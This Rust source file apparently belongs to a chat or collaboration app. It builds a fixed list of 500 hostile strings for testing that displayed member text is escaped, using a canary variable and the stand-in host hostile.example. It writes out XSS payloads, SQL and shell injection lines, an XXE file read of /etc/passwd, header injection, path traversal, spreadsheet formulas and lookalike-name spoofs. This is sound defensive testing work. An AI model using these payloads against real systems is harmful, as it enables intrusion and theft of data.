//! Five hundred strings that somebody might write to make another member's screen do something.
//!
//! Promise: the same strings in the same order on every run; whatever in them could run sets `canary`, opens a dialog or
//! asks `hostile.example`, so that running is seen.
//! Not here: showing them (`stories::hostile`).

/// How many there are.
pub(crate) const COUNT: usize = 500;

/// Markup that runs, fetches or takes the page over where it is not escaped.
const MARKUP: &[&str] = &[
    "<script>canary=1</script>",
    "<script src=//hostile.example/x.js></script>",
    "<script type=module>canary=1</script>",
    "<ScRiPt>canary=1</sCrIpT>",
    "<img src=x onerror=canary=1>",
    "<img/src=x/onerror=canary=1>",
    "<img src=//hostile.example/a.png>",
    "<img srcset='//hostile.example/b.png 1x'>",
    "<svg onload=canary=1>",
    "<svg><script>canary=1</script></svg>",
    "<svg><animate onbegin=canary=1 attributeName=x dur=1s>",
    "<svg><image href=//hostile.example/c.svg></svg>",
    "<svg><use href='data:image/svg+xml,<svg id=x onload=canary=1>#x'/></svg>",
    "<svg><foreignObject><img src=x onerror=canary=1></foreignObject></svg>",
    "<svg><a href='javascript:canary=1'><text y=20>press</text></a></svg>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=x onerror=canary=1&gt;'>",
    "<math href='javascript:canary=1'>press</math>",
    "<body onload=canary=1>",
    "<iframe srcdoc='<script>parent.canary=1</script>'></iframe>",
    "<iframe src='javascript:parent.canary=1'></iframe>",
    "<iframe src=//hostile.example/></iframe>",
    "<object data=//hostile.example/o></object>",
    "<embed src=//hostile.example/e>",
    "<video><source onerror=canary=1></video>",
    "<audio src=x onerror=canary=1></audio>",
    "<video poster=//hostile.example/p.png></video>",
    "<details open ontoggle=canary=1>x</details>",
    "<input autofocus onfocus=canary=1>",
    "<select autofocus onfocus=canary=1></select>",
    "<textarea autofocus onfocus=canary=1></textarea>",
    "<marquee onstart=canary=1>x</marquee>",
    "<style>@import '//hostile.example/s.css';</style>",
    "<style>*{display:none!important}</style>",
    "<style>body{background:url(//hostile.example/bg)}</style>",
    "<link rel=stylesheet href=//hostile.example/l.css>",
    "<link rel=prefetch href=//hostile.example/f>",
    "<meta http-equiv=refresh content='0;url=http://hostile.example/'>",
    "<base href=//hostile.example/>",
    "<form action=//hostile.example/><button>Sign in</button></form>",
    "<a href='javascript:canary=1' autofocus>press</a>",
    "<a href=//hostile.example/ ping=//hostile.example/ping>press</a>",
    "<template><script>canary=1</script></template>",
    "<noscript><p title='</noscript><img src=x onerror=canary=1>'></noscript>",
    "<xmp><p title='</xmp><img src=x onerror=canary=1>'></xmp>",
    "<!--><img src=x onerror=canary=1>-->",
    "<![CDATA[<img src=x onerror=canary=1>]]>",
    "<?xml-stylesheet href='//hostile.example/x.xsl'?>",
    "<dialog open>Your session has ended<button>Sign in</button></dialog>",
    "<plaintext>",
    "<h1>Comity: network closed</h1><main>",
];

/// What stands before markup to leave the place in which it is shown.
const ESCAPES: &[&str] =
    &["", "\"'>", "</title></textarea></style></script>", "--></bdi></p></li></main>", "&lt;&#39; \\x3e "];

/// Strings of other kinds, each family by itself.
const OTHERS: &[&[&str]] = &[
    // Values that leave an attribute.
    &[
        "\" onmouseover=canary=1 x=\"",
        "' onfocus=canary=1 autofocus x='",
        "x onerror=canary=1",
        "` onclick=canary=1 `",
        "\"/><svg onload=canary=1>",
    ],
    // Addresses that run.
    &[
        "javascript:canary=1",
        "JaVaScRiPt:canary=1",
        "java\tscript:canary=1",
        "javascript&colon;canary=1",
        "data:text/html,<script>canary=1</script>",
        "vbscript:canary",
        "//hostile.example/",
        "http://hostile.example/",
        "https:hostile.example",
        "\\\\hostile.example\\share",
        "file:///etc/passwd",
        "mailto:a@hostile.example?bcc=b@hostile.example",
        "tel:+1900000000",
        "blob:http://localhost/x",
        "view-source:http://localhost/",
    ],
    // Templates of many kinds.
    &[
        "{{7*7}}",
        "${canary=1}",
        "#{canary=1}",
        "<%= 7*7 %>",
        "{% raw %}",
        "{{constructor.constructor('canary=1')()}}",
        "@(canary)",
        "[[${7*7}]]",
        "{$member}",
        "{ $lead -> *[other] x }",
        "%{x}",
        "$(touch canary)",
    ],
    // Style values.
    &[
        "expression(canary=1)",
        "url(//hostile.example/u)",
        "}*{color:red}",
        "/*",
        "*/",
        "\\3c script\\3e",
        "@charset \"x\";",
        ";background:url(//hostile.example/)",
    ],
    // Headers and paths.
    &[
        "x\r\nSet-Cookie: session=stolen",
        "x\nContent-Type: text/html\n\n<script>canary=1</script>",
        "x%0d%0aLocation:%20http://hostile.example/",
        "../../../../etc/passwd",
        "..\\..\\windows\\win.ini",
        "/etc/passwd",
        "C:\\CON",
        "NUL",
        "aux.txt",
        "a/b/c.txt",
        ".htaccess",
        "report.pdf.exe",
        "report.html",
        "report.svg",
        "invoice.pdf                              .exe",
        "\"; filename=\"evil.html",
        "a;b=c.txt",
        "%2e%2e%2f",
        "~root",
        "-rf",
        "file.pdf%00.html",
        "*?.txt",
        "a\"b.txt",
        "’.txt",
    ],
    // Directions and marks.
    &[
        "\u{202E}fdp.exe",
        "\u{2066}x\u{2069}\u{2069}\u{2069}",
        "abc\u{202D}def\u{202C}",
        "\u{200F}\u{200E}\u{200F}",
        "\u{061C}١٢٣",
        "שלום <b>עולם</b> 123",
        "تنبيه 42 < 24 ‏ثم",
        "a\u{200B}b\u{200C}c\u{200D}d\u{2060}e\u{FEFF}f",
        "a\u{00AD}b\u{034F}c",
        "(مغلق) [x] {y} <z>",
        "ا\u{0640}\u{0640}\u{0640}\u{0640}\u{0640}\u{0640}\u{0640}ب",
        "12:30 – 03:07 עד 2026",
    ],
    // Marks upon marks.
    &["Z\u{0335}\u{0321}a\u{0334}l\u{0337}g\u{0338}o\u{0336}", "ก็็็็็็็็็็็็็็็็็็็็", "ﷺﷺﷺﷺﷺﷺﷺﷺ", "꧁༒꧂", "𝕳𝖆𝖗𝖇𝖔𝖚𝖗", "⒣⒜⒭⒝⒪⒰⒭"],
    // Names that look like others.
    &[
        "hаrbour",
        "hаrbоur",
        "ｈａｒｂｏｕｒ",
        "harbour\u{200B}",
        "harbour ",
        "Harbour (verified ✓)",
        "✓ Signature verified",
        "de1ta",
        "dеltа",
        "stерре",
        "oasıs",
        "rıdge",
        "TLP:CLEAR",
        "TLP：RED",
        "duty officer 7F3",
        "Admin",
        "System",
        "23 Nov 2026 03:07 UTC",
        "00:00 left",
        "Acknowledged by all",
    ],
    // Signs of other systems.
    &[
        "'; DROP TABLE entries;--",
        "1' OR '1'='1",
        "\" OR \"\"=\"",
        "admin'--",
        "$ne",
        "{\"$gt\":\"\"}",
        "=cmd|' /C calc'!A0",
        "+1+1",
        "@SUM(1)",
        "-2+3",
        "`id`",
        "| cat /etc/passwd",
        "; ls",
        "$(id)",
        "&& id",
        "() { :;}; id",
        "%s%s%s%n",
        "%d%x",
        "\\u0000",
        "\\0",
        "%00",
        "&#0;",
        "&#x1F4A9",
        "\\ud800",
        "<!DOCTYPE x [<!ENTITY a SYSTEM \"file:///etc/passwd\">]>&a;",
    ],
    // Markup of other kinds.
    &[
        "# heading",
        "[press](javascript:canary=1)",
        "![x](//hostile.example/m.png)",
        "**bold** _it_",
        "> quote",
        "```html\n<script>canary=1</script>\n```",
        "<https://hostile.example>",
        "| a | b |\n|---|---|",
        "[ref]: //hostile.example",
        "http://hostile.example/?q=<script>canary=1</script>",
        "www.hostile.example",
        "@everyone",
        "#channel",
        "\\include{x}",
        "$$\\href{javascript:canary=1}{x}$$",
    ],
    // Words read in the wrong encoding.
    &[
        "Ã©tÃ©",
        "ä½ å¥½",
        "å\u{2021}ºæ¥\u{AD}",
        "ï»¿",
        "锟斤拷烫烫烫",
        "æ–‡å—åŒ–ã",
        "+ADw-script+AD4-canary=1+ADw-/script+AD4-",
        "\u{FFFD}\u{FFFD}\u{FFFD}",
        "¼script¾canary=1¼/script¾",
    ],
    // Pictures among letters.
    &["👩‍👩‍👧‍👦🏳️‍🌈🇺🇳", "👨🏿‍🚒👨🏿‍🚒👨🏿‍🚒", "🅷🅰🆁🅱🅾🆄🆁", "⛔🛑☣️☢️", "🏴󠁧󠁢󠁥󠁮󠁧󠁿", "☃\u{FE0F}\u{20E3}", "🇦🇧🇨🇩🇪🇫🇬", "🫠🫥🪬", "\u{1F3FB}\u{1F3FF}"],
    // Languages, and numbers that are not what they seem.
    &[
        "上游氯气泄漏，河水请勿取用<b>",
        "\u{3000}全角\u{3000}空格\u{3000}",
        "「」『』【】《》",
        "٣٫١٤ ۳٫۱۴ ३.१४",
        "１２３４５",
        "ⅣⅫↂ",
        "0x7F",
        "1e309",
        "NaN",
        "Infinity",
        "-0",
        "undefined",
        "null",
        "true",
        "[object Object]",
        "None",
        "NIL",
        "__proto__",
        "constructor",
        "toString",
        "hasOwnProperty",
        "İstanbul ıI",
        "ß ẞ ﬁ ﬂ",
        "ǅ ǆ Ǆ",
    ],
];

/// Returns them all.
pub(crate) fn strings() -> Vec<String> {
    let mut all: Vec<String> = Vec::with_capacity(COUNT);
    for others in OTHERS {
        all.extend(others.iter().map(|text| (*text).to_owned()));
    }
    all.push("w".repeat(900));
    all.push("永".repeat(300));
    all.push(format!("{}>", "<b>".repeat(250)));
    all.push("x\u{0335}\u{0301}".repeat(150));
    all.push("\u{202B}x".repeat(150));
    all.push("very long words ".repeat(55));
    all.push("https://hostile.example/".to_owned() + &"x/".repeat(400));
    all.push("&amp;".repeat(180));
    for escape in ESCAPES {
        all.extend(MARKUP.iter().map(|markup| format!("{escape}{markup}")));
    }
    let mut number = 0;
    while all.len() < COUNT {
        // What is left over: markup cut in two places, which a careless filter puts together.
        let markup = MARKUP[number % MARKUP.len()];
        let cut = markup.char_indices().nth(4 + number / MARKUP.len()).map_or(1, |(at, _)| at);
        all.push(format!("{}<x>{}", &markup[..cut], &markup[cut..]));
        number += 1;
    }
    all.truncate(COUNT);
    all
}

#[cfg(test)]
mod tests {
    use super::{COUNT, strings};

    #[test]
    fn there_are_five_hundred_and_no_two_are_the_same() {
        let mut all = strings();
        assert_eq!(all.len(), COUNT);
        all.sort();
        all.dedup();
        assert_eq!(all.len(), COUNT);
    }
}
